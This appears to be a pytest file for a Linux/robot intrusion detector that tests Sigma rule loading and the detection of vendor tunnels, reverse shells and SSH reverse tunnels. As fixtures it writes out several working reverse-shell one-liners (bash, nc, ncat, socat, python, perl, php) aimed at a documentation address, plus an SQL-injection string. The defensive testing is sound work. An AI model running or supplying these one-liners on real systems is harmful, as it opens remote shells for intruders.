"""Sigma rules: ours, SigmaHQ's, and those that cannot be used."""

from pathlib import Path

import pytest

from tests.unit.host.judge.recording import BUILT_IN, PHONE, SSHD, Recording, Verdicts, hops
from wachhund.judge.matching import RuleMatcher
from wachhund.judge.rule_loading import load_rules

CSCLIENT = "/usr/local/zhexi/cloudsail/csclient"


def titles(incident: dict[str, list[str]]) -> str:
    """The rules of an incident in one text."""
    return " ".join(incident["rules"])


def test_our_rules_all_load_and_say_what_to_do() -> None:
    """An alert without What to do must not exist."""
    assert BUILT_IN.refused == ()
    assert RuleMatcher(BUILT_IN.rules).unusable == []
    for rule in BUILT_IN.rules:
        assert rule.advice, rule.title
        assert rule.explanation, rule.title
        assert rule.falsepositives, rule.title
        assert rule.attack, rule.title
        assert rule.blind is None, rule.title


def test_the_vendors_tunnel_is_one_incident_however_often_it_starts() -> None:
    """Daemon, worker, restarts: one door."""
    scene = Recording()
    scene.process(40, "/usr/bin/sudo", ["sudo", "./csclient", "install", "-quiet", "-token", "<redacted>"])
    for pid in (50, 60, 70):
        scene.process(pid, CSCLIENT, ["csclient", "start", "--mode=daemon"])
        scene.process(pid + 1, CSCLIENT, ["csclient", "start", "--mode=worker"], line=(pid,))
        scene.dial(pid + 1, ("124.156.140.55", 5670))
        scene.wait(60)
    incident = Verdicts(scene.facts).only
    assert (incident["kind"], incident["level"]) == ("tunnel", "high")
    assert "CloudSail" in incident["title"]
    assert hops(incident["origin"])[0] == "124.156.140.55"
    assert any("6 times" in line for line in incident["story"])


def test_a_session_through_the_vendors_tunnel_rises_in_the_same_incident() -> None:
    """The tunnel was known; now somebody came through it."""
    scene = Recording()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.process(51, CSCLIENT, ["csclient", "start", "--mode=worker"])
    outer = scene.dial(51, ("124.156.140.55", 5670))
    before = Verdicts(scene.facts).only
    scene.wait(100)
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(51, 900, 22)
    scene.relay(outer, inner, 51)
    scene.ssh_login(100, 900)
    scene.relay(outer, inner, 51, "relay")
    incident = Verdicts(scene.facts).only
    assert incident["id"] == before["id"]
    assert incident["title"] == "Remote control not allowed: ssh as pi through CloudSail"
    assert (incident["kind"], incident["level"]) == ("remote-control", "critical")


def test_a_renamed_vendor_tunnel_is_known_by_its_hash() -> None:
    """The hash is told a moment after the start."""
    scene = Recording()
    puid = scene.process(51, "/opt/innocent")
    sha256 = "6981ab170d6825db886ea709e5573107665f9158ffd76af1fba60f0b47fc4d27"
    scene.tell("process.image", puid=puid, exe="/opt/innocent", exe_sha256=sha256)
    assert "CloudSail" in Verdicts(scene.facts).only["title"]


def test_nps_is_a_vendor_tunnel() -> None:
    """The second tunnel of the stock robot, when somebody switches it on."""
    scene = Recording()
    scene.process(51, "/home/pi/Unitree/autostart/tunnel/linux_arm64_client/npc", ["./npc", "-server=203.0.113.5:8024"])
    assert "NPS" in Verdicts(scene.facts).only["title"]


@pytest.mark.parametrize(
    "argv",
    [
        ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        ["ncat", "203.0.113.9", "4444", "--sh-exec", "bash"],
        ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr"],
        [
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));pty.spawn('/bin/sh')",
        ],
        ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"],
        ["perl", "-e", "use Socket;socket(S,2,1,6);connect(S,x);open(STDIN,'>&S');exec('/bin/sh -i')"],
        ["php", "-r", "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
    ],
    ids=lambda argv: argv[0],
)
def test_reverse_shells_of_several_shapes_are_told_by_their_command(argv: list[str]) -> None:
    """The usual one-liners."""
    scene = Recording()
    scene.process(700, f"/usr/bin/{argv[0]}", argv)
    incident = Verdicts(scene.facts).only
    assert (incident["kind"], incident["level"]) == ("intrusion", "high")
    assert "Reverse shell" in titles(incident)


def test_a_reverse_shell_with_its_connection_is_remote_control_and_one_incident() -> None:
    """Command and connection match different rules: one attack, one incident, with the far end as origin."""
    scene = Recording()
    scene.process(700, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], user="pi")
    scene.process(701, "/bin/bash", ["bash", "-i"], user="pi", line=(700,))
    flow = scene.dial(701, ("203.0.113.9", 4444), user="pi")
    incident = Verdicts(scene.facts).only
    assert (incident["kind"], incident["level"], incident["surface"]) == ("remote-control", "critical", "shell")
    assert hops(incident["origin"])[:2] == ["203.0.113.9", "program /bin/bash"]
    scene.close(flow)
    assert Verdicts(scene.facts).only["sessions"][0]["last_t"] is not None


def test_a_shell_that_dials_out_is_told_whatever_its_command_said() -> None:
    """exec 5<>/dev/tcp/... typed by hand leaves nothing in argv."""
    scene = Recording()
    scene.process(700, "/bin/bash", ["-bash"])
    scene.dial(700, ("203.0.113.9", 4444))
    assert Verdicts(scene.facts).only["level"] == "critical"


def test_a_program_named_after_its_owner_arrives_late_is_still_matched() -> None:
    """A flow may be told before its program is known."""
    scene = Recording()
    scene.process(700, "/bin/bash", ["-bash"])
    scene.flow("open", "x", "out", ("10.1.1.2", 5), ("203.0.113.9", 4444), None)
    first = scene.facts[-1].observation.fields
    scene.tell("flow.update", **{**first, "puid": "700-9", "pid": 700, "exe": "/bin/bash", "user": "pi"})
    scene.tell(
        "flow.update", **{**first, "puid": "700-9", "pid": 700, "exe": "/bin/bash", "user": "pi", "bytes_in": 99}
    )
    incident = Verdicts(scene.facts).only
    assert not any("times" in line for line in incident["story"])


def test_the_stock_robots_noise_raises_nothing() -> None:
    """go1.md: what a robot does all day must not wake anybody, but for the vendor's tunnel."""
    scene = Recording()
    scene.coverage()
    for pid, exe, port in ((100, SSHD, 22), (200, "/usr/sbin/nginx", 80), (300, "/usr/sbin/mosquitto", 1883)):
        scene.process(pid, exe)
        scene.listen(port, pid, exe, existing=True)
    scene.process(400, "/bin/bash", ["bash", "keep_sport_alive.sh"])
    for pid in range(1000, 1100, 4):
        scene.process(pid, "/bin/ps", ["ps", "aux"], line=(400,))
        scene.process(pid + 1, "/bin/grep", ["grep", "Legged_sport"], line=(400,))
        scene.process(pid + 2, "/bin/grep", ["grep", "-v", "grep"], line=(400,))
        scene.process(pid + 3, "/usr/bin/awk", ["awk", "{print $2}"], line=(400,))
        scene.wait(0.2)
    scene.tell("process.repeat", exe="/bin/ps", argv=["ps", "aux"], parent_exe="/bin/bash", user="root", count=300)
    scene.process(500, "/usr/bin/sshpass", ["sshpass", "-p", "<redacted>", "scp", "unitree@192.168.123.13:/x", "."])
    scene.process(501, "/usr/bin/ssh", ["ssh", "unitree@192.168.123.13"], line=(500,))
    scene.close(scene.dial(501, ("192.168.123.13", 22)))
    scene.process(510, "/bin/bash", ["bash", "tunnel/run.sh"])
    scene.process(511, "/bin/ping", ["ping", "unitree.com", "-I", "ppp0"], line=(510,))
    scene.process(520, "/usr/bin/python3.7", ["python3", "-m", "pip", "install", "-r", "requirements.txt"])
    scene.close(scene.dial(520, ("151.101.0.223", 443)))
    scene.process(530, "/sbin/iptables", ["iptables", "-t", "nat", "-F"])
    scene.process(540, "/usr/bin/python3.7", ["python3", "programming.py"])
    scene.within(540, 300, 1883)
    scene.process(541, "/usr/bin/python3.7", ["python3", "startup_uploader.py"])
    scene.listen(9800, 541, "/usr/bin/python3.7")
    scene.process(542, "/usr/bin/python2.7", ["python", "/opt/ros/bin/rosmaster"])
    scene.listen(11311, 542, "/usr/bin/python2.7")
    scene.process(543, "/home/pi/appTransit", ["./appTransit"])
    scene.within(543, 542, 11311)
    scene.accept(200, 80, PHONE)
    scene.within(200, 300, 9801)
    scene.wait(30)
    scene.tell("heartbeat")
    assert Verdicts(scene.facts).incidents == {}


def test_sigmahqs_linux_rules_load_unchanged_or_say_why_not(sigma: Path) -> None:
    """Operators share rules: what is not in use is listed with its reason."""
    pack = load_rules((sigma,))
    matcher = RuleMatcher(pack.rules)
    files = list(sigma.rglob("*.yml"))
    assert len(pack.rules) + len(pack.refused) >= len(files) > 0
    assert all(refused.reason for refused in (*pack.refused, *matcher.unusable))
    assert len(pack.rules) - len(matcher.unusable) >= 0.95 * len(files)


def test_sigmahqs_rules_that_can_never_match_say_which_field_no_sense_tells(sigma: Path) -> None:
    """135 rules that load are no 135 rules that see: an operator must not count on the others."""
    blind = {rule.title: rule.blind for rule in load_rules((sigma,)).rules if rule.blind is not None}
    assert blind["Wget Creating Files in Tmp Directory"] == "Image: no sense tells which program changed a file"
    assert "/tmp/rootlog: no sense watches such a file" in (blind["Triple Cross eBPF Rootkit Default LockFile"] or "")
    assert sum("LogonId" in (why or "") for why in blind.values()) == 2
    assert len(blind) == 4


@pytest.mark.parametrize(
    ("exe", "argv", "title"),
    [
        ("/usr/bin/nc", ["nc", "-e", "/bin/bash", "203.0.113.9", "1"], "Potential Netcat Reverse Shell Execution"),
        ("/usr/bin/crontab", ["crontab", "/tmp/x"], "Scheduled Cron Task/Job - Linux"),
        ("/usr/bin/base64", ["base64", "-d", "x"], "Decode Base64 Encoded Text"),
        ("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"], "Remove Immutable File Attribute"),
    ],
)
def test_sigmahqs_rules_match_what_they_describe(sigma: Path, exe: str, argv: list[str], title: str) -> None:
    """Loading is not matching: some of them, on commands they are about."""
    scene = Recording()
    scene.process(700, exe, argv)
    incident = Verdicts(scene.facts, rules=load_rules((sigma,)).rules)
    assert any(title in titles(one) for one in incident.incidents.values())


RULE = """
title: A rule
id: 5b2a8a54-6f4c-4b8e-9d5d-111111111111
logsource:
  product: {product}
  category: {category}
detection:
  selection:
    {field}: x
  condition: selection
"""


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (RULE.format(product="windows", category="process_creation", field="Image"), "product 'windows'"),
        (RULE.format(product="linux", category="registry_event", field="Image"), "category 'registry_event'"),
        (RULE.format(product="linux", category="process_creation", field="Colour"), "Colour"),
        (RULE.format(product="linux", category="process_creation", field="Image") + "wachhund: {kind: odd}", "kind"),
        ("title: [", "not YAML"),
        ("title: x", "not a Sigma rule"),
    ],
)
def test_a_rule_that_cannot_be_used_is_listed_with_its_reason(tmp_path: Path, text: str, reason: str) -> None:
    """A rule that is silently not run is a hole that looks like a wall."""
    (tmp_path / "rule.yml").write_text(text)
    pack = load_rules((tmp_path,))
    assert pack.rules == ()
    assert reason in pack.refused[0].reason


def test_a_folder_without_rules_is_reported(tmp_path: Path) -> None:
    """A misspelt path must not look like an empty rule pack."""
    assert "no folder with rules" in load_rules((tmp_path / "none",)).refused[0].reason


FLOW = "network_connection"


@pytest.mark.parametrize(
    ("category", "detection", "can_match"),
    [
        ("process_creation", "{selection: {LogonId: 0}, condition: selection}", False),
        ("process_creation", "{selection: {LogonId: 0}, condition: not selection}", True),
        ("process_creation", "{selection: {LogonId: null}, condition: selection}", True),
        ("process_creation", "{selection: {LogonId: 0}, other: {Image: x}, condition: 1 of them}", True),
        ("process_creation", "{selection: {LogonId: 0, Image: x}, condition: selection}", False),
        ("process_creation", "{selection: {Hashes|contains: 'MD5=00'}, condition: selection}", False),
        ("process_creation", "{selection: {Hashes|contains: 'SHA256=00'}, condition: selection}", True),
        ("file_event", "{selection: {TargetFilename|startswith: /etc/cron.}, condition: selection}", True),
        ("file_event", "{selection: {TargetFilename: /home/pi/.SSH/authorized_keys}, condition: selection}", True),
        ("file_event", "{selection: {TargetFilename: /var/www/x.php}, condition: selection}", False),
        ("file_event", "{selection: {TargetFilename|endswith: .php}, condition: selection}", True),
        (FLOW, "{selection: {CommandLine: x}, condition: selection}", False),
        (FLOW, "{selection: {DestinationHostname|endswith: .example}, condition: selection}", True),
    ],
)
def test_whether_a_rule_can_match_follows_from_what_the_senses_tell(
    tmp_path: Path, category: str, detection: str, can_match: bool
) -> None:
    """A filter on a field that nobody tells costs nothing; a condition on it costs everything."""
    text = RULE.format(product="linux", category=category, field="Image").split("detection:")[0]
    (tmp_path / "rule.yml").write_text(f"{text}detection: {detection}")
    (rule,) = load_rules((tmp_path,)).rules
    assert (rule.blind is None) is can_match, rule.blind


def test_the_places_that_file_rules_are_held_against_are_those_that_the_agent_watches() -> None:
    """A rule listed as able to match on a file that nobody watches would be a lie."""
    from wachhund.judge.fields import CATEGORIES
    from wachhund_agent.sensors.persistence_places import GENERIC_PLACES

    ours = set(CATEGORIES["file_event"].places) - {"/home/pi/Unitree/autostart/*"}
    assert ours == {place.path for place in GENERIC_PLACES}


def test_text_of_a_robot_never_becomes_sql() -> None:
    """Arguments are values, whatever they contain."""
    scene = Recording()
    scene.process(1, "/bin/x'; DROP TABLE process_creation; --", ["'", '"', "%", "\\", "x' OR '1'='1"])
    scene.process(2, CSCLIENT)
    assert "CloudSail" in Verdicts(scene.facts).only["title"]


@pytest.mark.parametrize("front", [1, 70, 5_000])
def test_arguments_without_end_before_the_telling_one_hide_it_from_no_rule(front: int) -> None:
    """ssh takes any number of -v; an agent that tells them all is not to be relied upon."""
    scene = Recording()
    argv = ["ssh", *["-v"] * front, "-N", "-R", "2222:localhost:22", "x@203.0.113.7"]
    scene.process(700, "/usr/bin/ssh", argv)
    found = " ".join(titles(one) for one in Verdicts(scene.facts).incidents.values())
    assert "Reverse tunnel: ssh" in found
    assert ("more arguments than can be told" in found) is (front > 1)


@pytest.mark.parametrize(
    ("exe", "cut", "level"),
    [
        ("/usr/bin/ssh", ["argv"], "low"),
        ("/usr/bin/ssh", ["cwd"], None),
        ("/usr/bin/ssh", 7, None),
        ("/usr/bin/g++", ["argv"], None),
    ],
)
def test_a_way_out_whose_command_line_is_cut_is_told_and_a_compiler_is_not(
    exe: str, cut: object, level: str | None
) -> None:
    """What stands in the middle is seen by no rule, and nobody types so much."""
    scene = Recording()
    scene.process(700, exe, [exe, "-v", "host"], cut=cut)
    assert [one["level"] for one in Verdicts(scene.facts).incidents.values()] == ([level] if level else [])
